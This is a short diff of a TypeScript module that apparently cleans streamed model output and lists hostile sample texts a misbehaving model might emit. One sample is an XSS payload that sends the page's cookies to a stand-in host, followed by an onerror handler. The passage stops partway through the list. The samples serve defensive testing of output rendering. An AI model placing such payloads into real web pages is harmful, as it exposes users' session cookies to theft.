@@ -1,10 +1,10 @@
 import { callSettings } from '../../workers/llm/backend.ts'
 import { visibleText } from '../../workers/llm/clean-text.ts'
 
-/** What a reader may see of a text while it arrives: no hidden signs, and no more than any answer has. */
+/** The part of a text that may be shown in progress: no hidden characters, and no longer than any answer. */
 export const arriving = (text: string): string => visibleText(text).slice(0, callSettings.textMax)
 
-/** What a model may say when it is broken, talked into it, or evil. All of it is text and nothing else. */
+/** What a model may write when it is broken, manipulated, or malicious. All of it is text and nothing else. */
 export const hostileTexts: Record<string, string> = {
   'script tags': '<script>fetch("https://sink.example/"+document.cookie)</script><img src=x onerror=alert(1)>',
   'svg and iframes':
